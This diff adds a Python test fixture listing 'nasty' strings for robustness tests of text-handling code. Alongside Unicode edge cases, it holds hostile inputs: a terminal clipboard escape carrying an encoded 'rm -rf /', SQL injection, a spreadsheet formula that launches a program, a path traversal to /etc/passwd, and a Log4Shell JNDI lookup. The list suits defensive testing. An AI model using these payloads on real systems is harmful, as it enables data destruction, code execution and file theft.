@@ -1,0 +1,36 @@
+"""Strings that break software which trusts its input; for every test that takes text."""
+
+from __future__ import annotations
+
+NASTY: list[str] = [
+    "",
+    " \t\r\n",
+    "\x00",
+    "before\x00after",
+    "\x1b]0;title of the window\x07",
+    "\x1b]52;c;cm0gLXJmIC8=\x07",
+    "\x1b[2J\x1b[H\x1b[31mred",
+    "\x9b31mred\x9c",
+    "\x1bP+q544e\x1b\\",
+    "\x7f\x08\x08\x08",
+    "\u202egnp.exe\u202c",
+    "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
+    "lone \ud800 and \udfff surrogates",
+    "\ufffe\uffff\U0010ffff\ufdd0",
+    "one\u2028two\u2029three\x85four\x0bfive\x0csix",
+    "\ufff9base\ufffaruby\ufffb",
+    "\U000e0001hidden \U000e0041\U000e0042\U000e007f",
+    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f\u200d\U0001f525",
+    "Z\u200da\u200dl" + "\u0300\u0316" * 200 + "go",
+    "\ufeff\u200b\u00ad\u2060",
+    "[/x] [@click=app.quit]tap[/] [bold red]",
+    "'; DROP TABLE customer; --",
+    '"a" OR "b" NEAR(c d) * ^ AND NOT',
+    '=cmd|"/C calc"!A0',
+    "../../../../etc/passwd",
+    "${jndi:ldap://x/a} {{7*7}} %s %n {0}",
+    "\u0645\u062d\u0645\u062f \u674e\u660e \u0e01\u0e33 \u0939\u093f\u0928\u094d\u0926\u0940",
+    "w" * 3_000,
+    "\U0001f642" * 300,
+]
